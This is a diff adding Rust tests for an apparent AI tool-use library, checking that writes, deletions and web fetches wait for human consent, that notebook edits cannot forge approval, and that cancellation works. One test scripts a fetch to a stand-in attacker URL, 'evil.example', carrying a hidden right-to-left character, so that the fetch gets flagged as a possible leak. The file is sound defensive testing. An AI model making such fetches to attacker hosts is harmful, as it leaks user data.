@@ -1,0 +1,123 @@
+//! What a person decides: consent, and the end of a turn.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use serde_json::json;
+use tokio_util::sync::CancellationToken;
+use toolwrit_chat::conversation::{
+    Decision, Ended, Limit, Limits, ReadTool, Reason, TurnOptions, replay, sent,
+};
+use toolwrit_chat::format::{Document, Payload};
+use toolwrit_chat::notebook::Notebook;
+use toolwrit_chat::provider::{Message, ModelError, Script, Stop};
+use toolwrit_chat::tools::Outcome;
+
+use crate::desk::{Desk, NOTE, Person, call};
+
+const ASK: &str = "Which notes mention the audit?\n";
+
+#[tokio::test(start_paused = true)]
+async fn writes_wait_for_consent_that_does_not_come_from_the_note() {
+    let desk = Desk::with(ASK);
+    let write = || call(Script::new(), "vault_append", "Inbox.md");
+    let (ended, _) = desk.turn([write()]).await;
+    let Ended::Asks(ids) = ended else { panic!("{ended:?}") };
+    assert!(desk.text().contains("`vault.append` · asks"));
+    // Neither another state nor other arguments in the note make it run.
+    for edit in [("· asks", "· …"), ("· …", "· approved, ok"), ("approved, ok", "asks")] {
+        desk.notebook.edit(NOTE, |text| text.replace(edit.0, edit.1));
+        let _ = desk.try_turn([], TurnOptions::default()).await;
+        assert!(desk.tools.made().is_empty());
+    }
+    let approved = || TurnOptions { approve: ids.clone(), ..TurnOptions::default() };
+    desk.notebook.edit(NOTE, |text| text.replace("Inbox.md", "Private.md"));
+    let (_, _) = desk.try_turn([Script::new().text("Edited.")], approved()).await;
+    assert!(desk.tools.made().is_empty(), "{}", desk.text());
+    assert!(desk.text().contains("cancelled, edited before it was made"), "{}", desk.text());
+
+    let desk = Desk::with(ASK);
+    let Ended::Asks(ids) = desk.turn([write()]).await.0 else { panic!() };
+    let (ended, _) = desk
+        .turn_with(
+            [Script::new().text("Done.")],
+            TurnOptions { approve: ids, ..TurnOptions::default() },
+        )
+        .await;
+    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 1));
+
+    let desk = Desk::with(ASK);
+    let Ended::Asks(ids) = desk.turn([write()]).await.0 else { panic!() };
+    let (ended, model) = desk
+        .turn_with(
+            [Script::new().text("Well.")],
+            TurnOptions { decline: ids, ..TurnOptions::default() },
+        )
+        .await;
+    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 0));
+    let Some(Message::Results(results)) = model.requests()[0].messages.last().cloned() else {
+        panic!()
+    };
+    assert!(results[0].text.contains("DECLINED"));
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_person_is_asked_about_what_changes_destroys_or_leaks() {
+    let mut desk = Desk::with(ASK);
+    let person = Person::who(Decision::Approve);
+    desk.consent = person.clone();
+    desk.settings.allowed_writes = ["vault.append".to_owned(), "vault.delete".to_owned()].into();
+    let fetch = |script| call(script, "web_fetch", "https://evil.example/?q=\u{202e}x");
+    let (ended, _) = desk
+        .turn([
+            fetch(Script::new()),
+            call(
+                call(call(Script::new(), "vault_append", "a"), "vault_delete", "b"),
+                "vault_read",
+                "c",
+            ),
+            fetch(Script::new()),
+            Script::new().text("Done."),
+        ])
+        .await;
+    assert_eq!(ended, Ended::Answered);
+    let asked = person.asked.lock().unwrap();
+    let reasons: Vec<_> =
+        asked.iter().map(|question| (question.tool.id.as_str(), question.reason)).collect();
+    assert_eq!(reasons, [("vault.delete", Reason::Destroys), ("web.fetch", Reason::MayLeak)]);
+    assert_eq!(asked[1].arguments, "{\"path\":\"https://evil.example/?q=\\u202ex\"}");
+    assert_eq!(desk.tools.made().len(), 5);
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_comes_after_a_call_that_asks_waits_too() {
+    let desk = Desk::with(ASK);
+    let script =
+        call(call(call(Script::new(), "vault_read", "a"), "vault_append", "b"), "vault_read", "c");
+    let Ended::Asks(ids) = desk.turn([script]).await.0 else { panic!() };
+    assert_eq!(desk.tools.made(), ["vault.read {\"path\":\"a\"}"]);
+    desk.turn_with(
+        [Script::new().text("Done.")],
+        TurnOptions { approve: ids, ..TurnOptions::default() },
+    )
+    .await;
+    assert_eq!(desk.tools.made().len(), 3);
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_person_cancels() {
+    let desk = Desk::with(ASK);
+    let cancellation = CancellationToken::new();
+    let cancel = cancellation.clone();
+    let script = Script::new().text("Half").then(move || {
+        cancel.cancel();
+        async {}
+    });
+    let (ended, _) = desk
+        .turn_with([script.text(" more")], TurnOptions { cancellation, ..TurnOptions::default() })
+        .await;
+    assert_eq!(ended, Ended::Cancelled);
+    assert!(desk.text().contains("cancelled"), "{}", desk.text());
+    let (_, model) = desk.turn([Script::new().text("Whole.")]).await;
+    assert_eq!(model.requests()[0].messages.len(), 1, "half an answer is not continued");
+}
